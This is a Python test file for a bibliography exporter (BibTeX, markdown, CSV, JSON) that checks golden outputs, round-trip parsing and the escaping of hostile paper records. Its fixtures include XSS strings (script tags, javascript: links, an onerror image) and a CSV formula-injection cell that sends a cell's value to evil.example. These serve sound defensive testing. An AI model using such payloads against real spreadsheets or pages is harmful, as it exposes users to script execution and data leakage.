"""Exporters (BibTeX, markdown, CSV, JSON) and the readers of adbib's own markdown and CSV.

The input is tests/fixtures/papers.json: ten paper dicts written by hand from the seed lists
(plus two hostile ones), covering every hazard the exporters handle.  Each format's output is
compared byte for byte with a golden file in tests/fixtures/golden/.

Golden files change only deliberately: after changing an exporter on purpose, regenerate them
with ``ADBIB_UPDATE_GOLDEN=1 PYTHONPATH=src .venv/bin/pytest tests/test_exporters.py -k golden``
and review the diff (``git diff tests/fixtures/golden``) before committing it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from adbib import exporters
from adbib.exporters import bibtex
from adbib.exporters import csv as csv_export
from adbib.exporters import json as json_export
from adbib.readers import adbib_csv, adbib_markdown
from adbib.records import LinkRecord, ParseFailure, ReaderError

FIXTURES = Path(__file__).parent / "fixtures"
GOLDEN = FIXTURES / "golden"
PAPERS: list[dict] = json.loads((FIXTURES / "papers.json").read_text(encoding="utf-8"))
BY_KEY = {p["citekey"]: p for p in PAPERS}
HOSTILE = BY_KEY["ohackerbndhostile"]
FORMULA = BY_KEY["hooft2023hyperlink"]


def export(fmt: str, papers=PAPERS, **options) -> str:
    out = io.StringIO(newline="")
    exporters.get(fmt).write(papers, out, **options)
    return out.getvalue()


# --- registry -------------------------------------------------------------------------------


def test_registry_names_the_known_formats():
    assert list(exporters.FORMATS) == ["bibtex", "markdown", "csv", "json", "csl", "ris"]
    assert exporters.get("csv") is csv_export
    with pytest.raises(
        ValueError, match=r"^unknown format 'docx'; known formats: bibtex, markdown, csv, json, csl, ris$"
    ):
        exporters.get("docx")


def test_an_option_of_another_format_is_refused():
    with pytest.raises(TypeError):
        export("csv", unicode=True)


# --- golden files ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "options", "golden"),
    [
        ("bibtex", {}, "papers.bib"),
        ("bibtex", {"unicode": True}, "papers.unicode.bib"),
        ("markdown", {}, "papers.md"),
        ("csv", {}, "papers.csv"),
        ("json", {}, "papers.json"),
    ],
)
def test_golden(fmt, options, golden):
    text = export(fmt, **options)
    path = GOLDEN / golden
    if os.environ.get("ADBIB_UPDATE_GOLDEN"):
        path.write_bytes(text.encode("utf-8"))
    assert text == path.read_bytes().decode("utf-8")


def test_every_exporter_counts_what_it_wrote():
    for fmt in exporters.FORMATS:
        assert exporters.get(fmt).write(iter(PAPERS), io.StringIO()) == len(PAPERS)


def test_output_is_deterministic():
    for fmt in exporters.FORMATS:
        assert export(fmt) == export(fmt, papers=json.loads(json.dumps(PAPERS)))


# --- JSON -----------------------------------------------------------------------------------


def test_json_is_one_json_dumps_object_a_line():
    lines = [json.dumps(p, ensure_ascii=False) for p in PAPERS]
    assert export("json") == "[\n" + ",\n".join(lines) + "\n]\n"
    assert json.loads(export("json")) == PAPERS
    assert export("json", papers=[]) == "[]\n"


def test_json_keys_come_in_the_documented_order():
    shuffled = {k: PAPERS[0][k] for k in reversed(json_export.FIELDS)}
    assert list(json.loads(export("json", papers=[shuffled]))[0]) == list(json_export.FIELDS)


# --- BibTeX ---------------------------------------------------------------------------------


def test_bibtex_entry_types_follow_the_venue_type():
    types = {p["citekey"]: bibtex.entry(p).entry_type for p in PAPERS}
    assert types == {
        "ruff2020deep": "inproceedings",  # ICLR, conference
        "pang2019deep": "inproceedings",
        "gonzalezjimenez2025hyperbolic": "inproceedings",
        "pinaya2022fast": "inproceedings",
        "anon2024maediff": "misc",  # arXiv preprint
        "cai2025medianomaly": "article",  # MedIA, journal
        "anon2023dual": "misc",  # MedIA, but no authors: @article would warn "empty author"
        "bao2024bmad": "inproceedings",  # CVPRW, workshop
        "ohackerbndhostile": "misc",  # no venue, no arXiv id
        "hooft2023hyperlink": "misc",
    }


def test_bibtex_entries_of_each_kind():
    text = (GOLDEN / "papers.bib").read_text(encoding="utf-8")
    assert (
        "@inproceedings{ruff2020deep,\n"
        '  author = {Ruff, Lukas and Vandermeulen, Robert A. and G{\\"o}rnitz, Nico and Binder, Alexander'
        ' and M{\\"u}ller, Emmanuel and M{\\"u}ller, Klaus-Robert and Kloft, Marius},\n'
        "  title = {Deep Semi-Supervised Anomaly Detection},\n"
        "  year = {2020},\n"
        "  booktitle = {International Conference on Learning Representations},\n"
        "  eprint = {1906.02694},\n"
        "  archivePrefix = {arXiv},\n"
        "  url = {https://arxiv.org/abs/1906.02694},\n"
        "  addendum = {Code: \\url{https://github.com/lukasruff/Deep-SAD-PyTorch}}\n"
        "}\n"
    ) in text
    maediff = (
        "{MAEDiff}: Masked Autoencoder-enhanced Diffusion Models for Unsupervised Anomaly Detection in Brain Images"
    )
    assert (
        "@misc{anon2024maediff,\n"
        f"  key = {{{maediff}}},\n"  # no author: plain/alpha sort and label by the key
        f"  title = {{{maediff}}},\n"
        "  year = {2024},\n"
        "  eprint = {2401.10561},\n"
        "  archivePrefix = {arXiv},\n"
        "  url = {https://arxiv.org/abs/2401.10561}\n"
        "}\n"
    ) in text
    assert (
        "  author = {Pinaya, Walter H. L. and Graham, Mark S. and Gray, Robert and Da Costa, Pedro F"
        " and Tudosiu, Petru-Daniel and others},\n"
    ) in text
    assert "  author = {Pang, Guansong and Shen, Chunhua and van den Hengel, Anton},\n" in text
    assert "  title = {{MedIAnomaly}: A comparative study of anomaly detection in medical images},\n" in text
    assert "  journal = {Medical Image Analysis},\n" in text
    assert "  booktitle = {IEEE/CVF Conference on Computer Vision and Pattern Recognition Workshops},\n" in text
    # url and doi are verbatim fields for biber: % _ # ? stay as they are
    assert "  url = {https://www.sciencedirect.com/science/article/pii/S1361841523000555?via%3Dihub},\n" in text
    # the code link goes to biblatex's addendum (url holds the paper's link), without the
    # ?tab=readme-ov-file#… the stored link has
    assert "  addendum = {Code: \\url{https://github.com/caiyu6666/MedIAnomaly}}\n" in text
    assert "readme-ov-file" not in text and "\n  code = " not in text
    assert "  doi = {10.1007/978-3-031-16452-1_67},\n" in text


def test_bibtex_unicode_keeps_utf8_but_escapes_latex_specials():
    text = (GOLDEN / "papers.unicode.bib").read_text(encoding="utf-8")
    assert 'G{\\"o}rnitz' not in text
    assert "Ruff, Lukas and Vandermeulen, Robert A. and Görnitz, Nico" in text
    assert "Gröger, Fabian" in text
    assert "O'Hacker\\_\\ensuremath{<}b\\ensuremath{>}*, Eve" in text
    assert (GOLDEN / "papers.bib").read_bytes().isascii()


@pytest.mark.parametrize(
    ("title", "latex"),
    [
        (
            "MediCLIP: Adapting CLIP for Few-Shot Medical Image Anomaly Detection",
            "{MediCLIP}: Adapting {CLIP} for Few-Shot Medical Image Anomaly Detection",
        ),
        (
            "f-AnoGAN: Fast unsupervised anomaly detection with generative adversarial networks",
            "{f-AnoGAN}: Fast unsupervised anomaly detection with generative adversarial networks",
        ),
        (
            "Emerging Properties in Self-Supervised Vision Transformers (DINO) on MVTec AD",
            "Emerging Properties in Self-Supervised Vision Transformers ({DINO}) on {MVTec AD}",
        ),
        (
            "Rethinking Autoencoders for Medical Anomaly Detection from A Theoretical Perspective",
            "Rethinking Autoencoders for Medical Anomaly Detection from A Theoretical Perspective",
        ),
        ("3D U-Net for MICCAI 2024", "{3D} {U-Net} for {MICCAI} 2024"),
        ("ÖZTÜRK’s Gröger–method", '{{\\"O}ZT{\\"U}RK{\\textquoteright}s} Gr{\\"o}ger{\\textendash}method'),
    ],
)
def test_bibtex_title_protects_capitals(title, latex):
    assert bibtex.latex_title(title) == latex


@pytest.mark.parametrize(
    ("text", "latex"),
    [
        ("Sandkühler", 'Sandk{\\"u}hler'),
        # lgc list line 191; pylatexenc's {\'\i} would reach pdflatex through biber as ı + U+0301
        ("Silva-Rodríguez", "Silva-Rodr{\\'i}guez"),
        (
            "van den Hengel & Co, 50% a_b #1 $2 ~x ^y",
            "van den Hengel \\& Co, 50\\% a\\_b \\#1 \\$2 \\textasciitilde{}x \\textasciicircum{}y",
        ),
        ("中文", "{\\bfseries ?}{\\bfseries ?}"),  # no LaTeX for it in ASCII: a visible marker
    ],
)
def test_bibtex_latex_encoding(text, latex):
    assert bibtex.latex(text) == latex


def test_bibtex_unicode_option_escapes_only_latex_specials():
    assert bibtex.latex("Silva-Rodríguez 中文 & 50%", unicode=True) == "Silva-Rodríguez 中文 \\& 50\\%"


def test_bibtex_hostile_title_is_escaped_and_balanced():
    entry = export("bibtex", papers=[HOSTILE])
    assert entry == (
        "@misc{ohackerbndhostile,\n"
        "  author = {O'Hacker\\_\\ensuremath{<}b\\ensuremath{>}*, Eve},\n"
        "  title = {Hostile \\& \\&copy; 100\\% \\{{CLIP}\\} \\textbackslash{} {Title\\_with} @ \\$5 \\#1"
        " \\textasciitilde{} \\textasciicircum{} \\ensuremath{<}script\\ensuremath{>}alert(1)"
        "\\ensuremath{<}/script\\ensuremath{>} [x](javascript:alert(1)) *bold* `code`"
        " \\textbraceright{} stray \\textbraceleft{}},\n"
        "  url = {https://github.com/evil/x_(y)}\n"  # javascript: paper link dropped: the code link is the url
        "}\n"
    )
    # bibtex counts every brace, escaped or not: the entry must balance without the escapes too
    depth = 0
    for char in entry:
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0
    assert depth == 0


def test_bibtex_verbatim_fields_cannot_unbalance_the_entry():
    paper = dict(HOSTILE, links={"paper": ["https://example.org/a}b{c\\d"]})
    assert bibtex.entry(paper).fields_dict["url"].value == "https://example.org/a%7Db%7Bc%5Cd"


def _parse_bib(path: Path, *, decode: bool):
    import bibtexparser
    from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors, SplitNameParts

    extra = [LatexDecodingMiddleware(), SeparateCoAuthors(), SplitNameParts()] if decode else []
    library = bibtexparser.parse_file(str(path), append_middleware=extra)
    assert library.failed_blocks == []
    return {e.key: e for e in library.entries}


@pytest.mark.parametrize("golden", ["papers.bib", "papers.unicode.bib"])
def test_bibtex_parses_back_to_the_same_papers(golden):
    entries = _parse_bib(GOLDEN / golden, decode=True)
    assert list(entries) == [p["citekey"] for p in PAPERS]
    for paper in PAPERS:
        e = entries[paper["citekey"]]
        expected_title = paper["title"]
        if paper is HOSTILE:
            # pylatexenc decodes \textasciicircum to U+02C6 and knows no \textbrace{left,right}
            expected_title = expected_title.replace("^", "ˆ").replace("} stray {", " stray ")
        assert e["title"] == expected_title
        assert e.fields_dict.get("year") is None or e["year"] == str(paper["year"])
        if paper["author_names"]:
            names = [" ".join(n.first + n.von + n.last) for n in e["author"]]
            expected = paper["authors"] + (["others"] if paper["authors_truncated"] else [])
            assert names == expected
    hengel = entries["pang2019deep"]["author"][2]
    assert (hengel.first, hengel.von, hengel.last) == (["Anton"], ["van", "den"], ["Hengel"])
    costa = entries["pinaya2022fast"]["author"][3]
    assert (costa.first, costa.last) == (["Pedro", "F"], ["Da", "Costa"])


def test_bibtex_verbatim_fields_parse_back_unchanged():
    entries = _parse_bib(GOLDEN / "papers.bib", decode=False)
    for paper in PAPERS:
        fields = {k: v.value for k, v in entries[paper["citekey"]].fields_dict.items()}
        assert fields.get("doi") == paper["doi"]
        assert fields.get("eprint") == paper["arxiv"]
        assert fields.get("archivePrefix") == ("arXiv" if paper["arxiv"] else None)
        code = next(iter(exporters.web_links(paper, "code")), None)
        assert fields.get("url") == (exporters.primary_url(paper) or code)
        if exporters.primary_url(paper) and code:
            assert fields["addendum"] == f"Code: \\url{{{code}}}"
        assert "code" not in fields


def test_bibtex_parses_with_pybtex_in_strict_mode():
    import pybtex.database
    import pybtex.errors

    pybtex.errors.set_strict_mode(True)
    for golden in ("papers.bib", "papers.unicode.bib"):
        data = pybtex.database.parse_file(str(GOLDEN / golden))
        assert list(data.entries) == [p["citekey"] for p in PAPERS]
    authors = [str(p) for p in data.entries["ruff2020deep"].persons["author"]]
    assert authors[2] == "Görnitz, Nico"
    assert [str(p) for p in data.entries["pang2019deep"].persons["author"]][2] == "van den Hengel, Anton"


_TEX_TOOLS = ("pdflatex", "bibtex", "biber")
_BIBTEX_DOC = r"""\documentclass{article}
\usepackage[T1]{fontenc}
\begin{document}
\nocite{*}
\bibliographystyle{STYLE}
\bibliography{papers}
\end{document}
"""
_BIBLATEX_DOC = r"""\documentclass{article}
\usepackage[T1]{fontenc}
\usepackage[backend=biber]{biblatex}
\begin{document}
\begin{refsection}[papers.bib]\nocite{*}\printbibliography\end{refsection}
\begin{refsection}[papers.unicode.bib]\nocite{*}\printbibliography\end{refsection}
\end{document}
"""


def _run(tmp: Path, *cmd: str) -> str:
    done = subprocess.run(cmd, cwd=tmp, capture_output=True, text=True, errors="replace", timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def _latex_problems(log: str) -> list[str]:
    return [line for line in log.splitlines() if line.startswith("!") or "Warning" in line]


@pytest.mark.slow  # ≈ 2.5 s: three LaTeX passes per document
@pytest.mark.skipif(
    not all(map(shutil.which, _TEX_TOOLS)) and os.environ.get("CI", "").lower() != "true",  # CI: fail, not skip
    reason="TeX (pdflatex, bibtex, biber) not installed",
)
def test_bibtex_compiles_without_warnings_with_bibtex_and_biber(tmp_path):
    """``\\nocite{*}`` against the export: bibtex with plain and alpha, biber (biblatex) with the
    ASCII and the UTF-8 export; no warning from bibtex, biber or LaTeX after the usual three passes."""
    for golden in ("papers.bib", "papers.unicode.bib"):
        shutil.copy(GOLDEN / golden, tmp_path / golden)
    latex = ("pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-draftmode")
    builds = [(style, _BIBTEX_DOC.replace("STYLE", style), "bibtex") for style in ("plain", "alpha")]
    builds.append(("doc", _BIBLATEX_DOC, "biber"))
    for name, source, backend in builds:
        (tmp_path / f"{name}.tex").write_text(source)
        _run(tmp_path, *latex, name)
        report = _run(tmp_path, backend, name)
        assert not re.search(r"warn|error", report, re.I), report
        _run(tmp_path, *latex, name)
        _run(tmp_path, *latex, name)
        assert _latex_problems((tmp_path / f"{name}.log").read_text(errors="replace")) == []
    for style in ("plain", "alpha"):
        assert (tmp_path / f"{style}.bbl").read_text().count("\\bibitem") == len(PAPERS)
    assert (tmp_path / "doc.bbl").read_text().count("\\entry{") == 2 * len(PAPERS)


# --- markdown -------------------------------------------------------------------------------


def test_markdown_layout():
    text = export("markdown")
    assert text.startswith(
        "<!-- generated by adbib: do not edit by hand -->\n\n# Industrial\n\n## Supervised\n\n### 2020\n\n"
    )
    headings = re.findall(r"^#+ .*$", text, re.M)
    assert headings == [
        "# Industrial",
        "## Supervised",
        "### 2020",
        "### 2019",
        "# Medical",
        "## Benchmark",
        "### 2024",
        "## Reconstruction",
        "### 2023",
        "### 2022",
        "## Survey",
        "### 2025",
        "## Synthesis",
        "### 2025",
        "## Other",
        "### 2024",
        "# General",
        "## Other",
        "### 2023",
        "# Uncategorized",
        "## Other",
        "### Unknown year",
    ]
    # two categories (reconstruction, synthesis): listed once, under the first
    assert text.count("**Fast Unsupervised Brain Anomaly Detection and Segmentation with Diffusion Models**") == 1
    assert (
        "- *(2022-MICCAI)* **Fast Unsupervised Brain Anomaly Detection and Segmentation with Diffusion Models**"
        " [[Paper]](https://link.springer.com/chapter/10.1007/978-3-031-16452-1_67)"
        " [[arXiv]](https://arxiv.org/abs/2206.03461)\n"
        "  - Authors: Walter H. L. Pinaya, Mark S. Graham, Robert Gray, Pedro F Da Costa, Petru-Daniel Tudosiu,"
        " and others\n"
        "  - Datasets: HeadCT, UKB, WMH, MSLUB, BraTS\n"
        "  - Summary: Latent-space diffusion models for brain image anomaly detection.\n"
        "  - Also in: Synthesis\n"
        "  - IDs: arXiv 2206.03461, DOI 10.1007/978-3-031-16452-1\\_67\n"
    ) in text
    # BMAD's dataset was found in its abstract: the Abstract line carries it, not the Datasets line
    bmad = text.split("**BMAD: Benchmarks for Medical Anomaly Detection**")[1].split("\n- ")[0]
    assert "  - Datasets:" not in bmad
    assert "  - Abstract: Anomaly detection (AD) is a fundamental research problem" in bmad


def test_markdown_keeps_input_order_within_a_heading():
    ruff = BY_KEY["ruff2020deep"]
    papers = [dict(ruff, title="Zeta"), dict(ruff, title="Alpha"), dict(ruff, title="Mu")]
    assert re.findall(r"\*\*(\w+)\*\*", export("markdown", papers=papers)) == ["Zeta", "Alpha", "Mu"]


def test_markdown_category_titles_give_names_and_order():
    titles = {"synthesis": "Synthesis-based Methods", "reconstruction": "Reconstruction-based Methods"}
    text = export("markdown", category_titles=titles)
    medical = text.split("# Medical\n")[1].split("# General\n")[0]
    assert re.findall(r"^## .*$", medical, re.M) == [
        "## Synthesis-based Methods",
        "## Reconstruction-based Methods",
        "## Benchmark",
        "## Survey",
        "## Other",
    ]


def test_markdown_hostile_content_is_inert():
    text = export("markdown", papers=[HOSTILE])
    assert text.split("### Unknown year\n\n")[1] == (
        "- **Hostile & &amp;copy; 100% {CLIP} \\\\ Title\\_with @ \\$5 #1 \\~ ^"
        " &lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](javascript:alert(1)) \\*bold\\* \\`code\\` } stray {**"
        " [[Code]](https://github.com/evil/x_\\(y\\))\n"
        "  - Authors: Eve O'Hacker\\_&lt;b&gt;\\*\n"
        "  - Datasets: \\[DS\\](javascript:alert(1))\n"
        "  - Summary: &lt;img src=x onerror=alert(1)&gt; \\*\\*sum\\*\\*\n"
    )
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable(["strikethrough", "table"]).render(text)
    assert "<script" not in html and "<img" not in html and "<b>" not in html
    assert re.findall(r'href="([^"]*)"', html) == ["https://github.com/evil/x_(y)"]
    assert "<em>" not in html and "<code>" not in html


def _expected_links(paper: dict) -> list[tuple[str, str]]:
    from adbib.records import LINK_ROLES

    return [(role, url) for role in LINK_ROLES for url in exporters.web_links(paper, role)]


def test_markdown_round_trip():
    result = adbib_markdown.read(export("markdown"))
    assert result.failures == []
    records = {r.title: r for r in result.records}
    assert sorted(records) == sorted(p["title"] for p in PAPERS)
    for paper in PAPERS:
        r = records[paper["title"]]
        authors = paper["authors"] + (["and others"] if paper["authors_truncated"] else [])
        assert r.year == paper["year"]
        assert r.venue_raw == paper["venue"]
        assert r.authors_raw == (", ".join(authors) or None)
        assert [(link.role, link.url) for link in r.links] == _expected_links(paper)
        assert r.datasets_raw == [d["name"] for d in paper["datasets"] if d["evidence"] != "abstract"]
        assert r.domain == paper["domain"]
        assert r.summary == paper["summary"]
        assert r.date == paper["date"]
        assert r.abstract == paper["abstract"]
        assert r.problems == []
    pinaya = records["Fast Unsupervised Brain Anomaly Detection and Segmentation with Diffusion Models"]
    assert pinaya.headings == ["Medical", "Reconstruction", "Synthesis"]
    assert pinaya.section == "Reconstruction"
    assert pinaya.line == 44
    assert pinaya.raw.startswith("- *(2022-MICCAI)* **Fast Unsupervised")
    assert pinaya.raw.endswith("  - IDs: arXiv 2206.03461, DOI 10.1007/978-3-031-16452-1\\_67")
    assert records["Deep Semi-Supervised Anomaly Detection"].headings == ["Industrial", "Supervised"]
    assert records[FORMULA["title"]].headings == ["General"]
    assert records[HOSTILE["title"]].headings == []
    bmad = records["BMAD: Benchmarks for Medical Anomaly Detection"]
    assert [link.label for link in bmad.links] == ["Paper", "arXiv", "Code", "Dataset"]


def test_markdown_ids_no_link_carries_become_links():
    paper = dict(
        BY_KEY["anon2024maediff"],
        title="Anomaly detection via gating highway connection for retinal fundus images",
        year=2023,
        date="2023-12-01",
        venue="PR",
        arxiv="2311.00001",
        doi="10.1016/j.patcog.2023.110167",
        links={"code": ["https://github.com/WentianZhang-ML/GatingAno"]},
    )
    (record,) = adbib_markdown.read(export("markdown", papers=[paper])).records
    assert record.links == [
        LinkRecord("code", "https://github.com/WentianZhang-ML/GatingAno", "Code"),
        LinkRecord("arxiv", "https://arxiv.org/abs/2311.00001", "arXiv"),
        LinkRecord("doi", "https://doi.org/10.1016/j.patcog.2023.110167", "DOI"),
    ]


def test_auto_detection_picks_the_adbib_readers_for_adbib_exports():
    """`adbib import FILE` must read adbib's own exports with the adbib dialects, not with a list
    reader whose detect() also accepts them (the LGC list's bullets look alike)."""
    from adbib import readers

    assert readers.detect((GOLDEN / "papers.md").read_text(encoding="utf-8")) == "adbib-md"
    assert readers.detect((GOLDEN / "papers.csv").read_bytes().decode("utf-8")) == "csv"


def test_markdown_reader_detect_and_errors():
    text = export("markdown")
    assert adbib_markdown.detect(text)
    assert not adbib_markdown.detect("# Awesome Industrial & Medical Anomaly Detection\n")
    with pytest.raises(ReaderError, match="not an adbib markdown export"):
        adbib_markdown.read("# Medical\n\n- **A title**\n")
    broken = adbib_markdown.GENERATED_BY + "\n\n# Medical\n\n## Survey\n\n- *(2024-MICCAI)* no bold title\n"
    result = adbib_markdown.read(broken)
    assert result.records == []
    assert result.failures == [ParseFailure(7, "no title", "- *(2024-MICCAI)* no bold title")]


# --- CSV ------------------------------------------------------------------------------------


def test_csv_header_and_neutralized_cells():
    text = (GOLDEN / "papers.csv").read_bytes().decode("utf-8")
    assert text.startswith(
        "citekey,title,authors,year,venue,venue_type,doi,arxiv,url,code,datasets,categories,domain,sources,tags,note\r\n"
    )
    assert text.endswith(
        'hooft2023hyperlink,"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")",\'\'t Hooft,2023,,,,,'
        "https://evil.example/?q=1,,'-Negative Set,,general,'=evil.csv:2,,\r\n"
    )
    assert csv_export.row(BY_KEY["cai2025medianomaly"]) == [
        "cai2025medianomaly",
        "MedIAnomaly: A comparative study of anomaly detection in medical images",
        "Yu Cai; Weiwen Zhang; Hao Chen; Kwang-Ting Cheng",
        "2025",
        "MedIA",
        "journal",
        "",
        "2404.04518",
        "https://www.sciencedirect.com/science/article/pii/S1361841525000489",
        "https://github.com/caiyu6666/MedIAnomaly",  # ?tab=readme-ov-file#… left out (tracking)
        "RSNA; VinDr-CXR; Brain Tumor; BraTS2021; LAG; Camelyon16",
        "survey",
        "medical",
        "data/seed/lgc-industrial-medical-ad_2025-12.md:400; data/seed/diaoquesang-medical-ad_2025-06.md:427;"
        " data/seed/diaoquesang-medical-ad_2025-03.md:30",
        "",  # tags
        "",  # note
    ]
    assert csv_export.row(BY_KEY["ruff2020deep"])[-2:] == ["baseline; to-read", "Compare with DevNet on MVTec AD."]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30", "'+49 30"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted'", "''quoted'"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_formula_neutralization_round_trips(cell, written):
    assert csv_export.neutralize(cell) == written
    assert adbib_csv.restore(written) == cell


def test_csv_reads_back_with_csv_module_and_pandas():
    import pandas

    path = GOLDEN / "papers.csv"
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8")
    assert list(frame.columns) == rows[0] == list(adbib_csv.HEADER + adbib_csv.CURATION)
    assert frame.values.tolist() == rows[1:]
    assert rows[1:] == [[csv_export.neutralize(c) for c in csv_export.row(p)] for p in PAPERS]


def test_csv_round_trip_through_the_reader():
    result = adbib_csv.read((GOLDEN / "papers.csv").read_bytes().decode("utf-8"))
    assert result.failures == []
    assert [r.title for r in result.records] == [p["title"] for p in PAPERS]
    assert [r.line for r in result.records] == list(range(2, 12))
    for paper, r in zip(PAPERS, result.records, strict=True):
        authors = paper["authors"] + (["and others"] if paper["authors_truncated"] else [])
        assert r.year == paper["year"]
        assert r.venue_raw == paper["venue"]
        assert r.authors_raw == ("; ".join(authors) or None)
        assert r.datasets_raw == [d["name"] for d in paper["datasets"]]
        assert r.headings == paper["categories"]
        assert r.domain == paper["domain"]
    formula = result.records[-1]
    assert formula.title == '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
    assert formula.authors_raw == "'t Hooft"
    assert formula.datasets_raw == ["-Negative Set"]
    # the dl.acm.org URL carries the DOI already: no doi.org link is added
    assert [(link.role, link.url) for link in result.records[1].links] == [
        ("paper", "https://dl.acm.org/doi/10.1145/3292500.3330871"),
        ("code", "https://github.com/mala-lab/deviation-network-image"),
        ("arxiv", "https://arxiv.org/abs/1911.08623"),
    ]
    # an arXiv-only paper: its url column is the arXiv page, not repeated
    assert [(link.role, link.url) for link in result.records[4].links] == [
        ("arxiv", "https://arxiv.org/abs/2401.10561"),
    ]


def test_csv_ids_no_link_carries_become_links():
    paper = dict(  # medaierhhl list line 20, its MIA link being a doi.org link
        BY_KEY["anon2024maediff"],
        title="Latent Transformer Models for out-of-distribution detection",
        year=2023,
        date="2023-09-16",
        venue="MedIA",
        arxiv=None,
        doi="10.1016/j.media.2023.102967",
        links={},
    )
    (record,) = adbib_csv.read(export("csv", papers=[paper])).records
    assert record.links == [LinkRecord("doi", "https://doi.org/10.1016/j.media.2023.102967", "doi")]


def test_csv_reader_failures():
    header = ",".join(adbib_csv.HEADER) + "\r\n"
    assert adbib_csv.detect(header)
    assert not adbib_csv.detect("title,authors\r\n")
    with pytest.raises(ReaderError, match="not an adbib CSV export"):
        adbib_csv.read("title,authors\r\nA,B\r\n")
    text = header + "k1,,A B,2024,,,,,,,,,,\r\n" + "k2,Short row\r\n" + 'k3,"multi\nline",,19x9,,,,,,,,,mars,\r\n'
    result = adbib_csv.read(text)
    assert result.failures == [
        ParseFailure(2, "no title", "k1,,A B,2024,,,,,,,,,,\r\n"),
        ParseFailure(3, "expected 14 cells, found 2", "k2,Short row\r\n"),
    ]
    (record,) = result.records
    assert (record.title, record.line, record.raw) == ("multi\nline", 4, 'k3,"multi\nline",,19x9,,,,,,,,,mars,\r\n')
    assert record.problems == ["year '19x9' is not a number", "unknown domain 'mars'"]


# --- streaming ------------------------------------------------------------------------------


def synthetic(n: int):
    """n distinct papers shaped like the fixture (a generator: it can be consumed only once)."""
    base = BY_KEY["pinaya2022fast"]
    for i in range(n):
        yield dict(base, id=i, citekey=f"pinaya2022fast{i}", title=f"{base['title']} {i}", year=2000 + i % 26)


@pytest.mark.parametrize("fmt", list(exporters.FORMATS))
def test_exporters_stream_a_generator_once(fmt):
    out = io.StringIO()
    papers = synthetic(10_000)
    assert exporters.get(fmt).write(papers, out) == 10_000
    assert next(papers, None) is None
    text = out.getvalue()
    count = {
        "bibtex": text.count("@inproceedings{"),
        "markdown": text.count("\n- *("),
        "csv": text.count("\r\n") - 1,
        "json": text.count('\n{"id": '),
        "csl": text.count('\n    "id": '),
        "ris": text.count("\nER  - \n"),
    }[fmt]
    assert count == 10_000
    assert "with Diffusion Models 9999" in text
